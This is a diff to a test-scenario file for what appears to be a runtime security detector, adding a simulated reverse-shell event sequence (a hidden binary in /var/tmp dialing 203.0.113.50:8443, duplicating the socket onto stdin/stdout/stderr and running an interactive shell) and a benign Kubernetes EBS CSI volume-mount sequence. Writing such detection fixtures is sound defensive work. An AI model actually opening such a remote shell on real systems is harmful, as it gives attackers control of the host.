@@ -6,7 +6,7 @@ import {
   APPEND, CLONE_FS, CLONE_NEWNET, CLONE_NEWNS, CLONE_NEWPID, CLONE_NEWUSER, CREATE, O, PTRACE, READ, RDWR, SampleFile, TRUNCATE, pts,
 } from './dsl.mjs';
 import {
-  ALPINE, API, CHROME, COREDNS, KANIKO, NODEAPP, PRIV, REDIS, SHOP, T0, WEB, WORKER, kubectlExec, shim, sshLogin, startContainer, sudoRootShell,
+  ALPINE, API, CHROME, COREDNS, CSI, KANIKO, NODEAPP, PRIV, REDIS, SHOP, T0, WEB, WORKER, kubectlExec, shim, sshLogin, startContainer, sudoRootShell,
 } from './common.mjs';
 
 const NODE = '/usr/local/bin/node';
@@ -154,6 +154,15 @@ export function scenarioFiles() {
         const sock = systemd.socket();
         systemd.dup2(sock, 0);
         void r;
+      });
+      f.block('a compiled payload on the host: connect out, dup2 onto 0, 1, 2, exec /bin/sh', (s) => {
+        const bash = sshLogin(s, { user: 'www-data', uid: 33, pid: 4510 });
+        const x = bash.spawn(4511, '/var/tmp/.x', ['./.x']);
+        const sock = x.dial('203.0.113.50', 8443);
+        x.dup2(sock, 0);
+        x.dup2(sock, 1);
+        x.dup2(sock, 2);
+        x.exec('/bin/sh', ['sh', '-i']);
       });
     }),
 
@@ -563,6 +572,13 @@ export function scenarioFiles() {
         sh.spawn(57103, '/bin/mount', ['mount', '-t', 'tmpfs', 'tmpfs', '/mnt/scratch']).mount('tmpfs', '/mnt/scratch', 'tmpfs');
         const root = sshLogin(s, { user: 'root', uid: 0, pid: 8000 });
         root.spawn(8001, '/bin/mount', ['mount', '/dev/sdb1', '/data']).mount('/dev/sdb1', '/data', 'xfs');
+      });
+      f.block('the EBS CSI node plugin (kube-system) formatting and mounting an attached volume', (s) => {
+        const csi = startContainer(s, CSI, 57201, '/bin/aws-ebs-csi-driver', ['/bin/aws-ebs-csi-driver', 'node', '--endpoint=unix:/csi/csi.sock']);
+        const m = csi.spawn(57202, '/bin/mount', ['mount', '-t', 'ext4', '-o', 'defaults', '/dev/nvme1n1', '/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount']);
+        m.mount('/dev/nvme1n1', '/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount', 'ext4');
+        const b = csi.spawn(57203, '/bin/mount', ['mount', '-o', 'bind', '/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount', '/var/lib/kubelet/pods/9a2e/volumes/kubernetes.io~csi/pvc-1/mount']);
+        b.mount('/var/lib/kubelet/plugins/kubernetes.io/csi/ebs.csi.aws.com/3f1c/globalmount', '/var/lib/kubelet/pods/9a2e/volumes/kubernetes.io~csi/pvc-1/mount', 'none', 4096);
       });
     }),
 
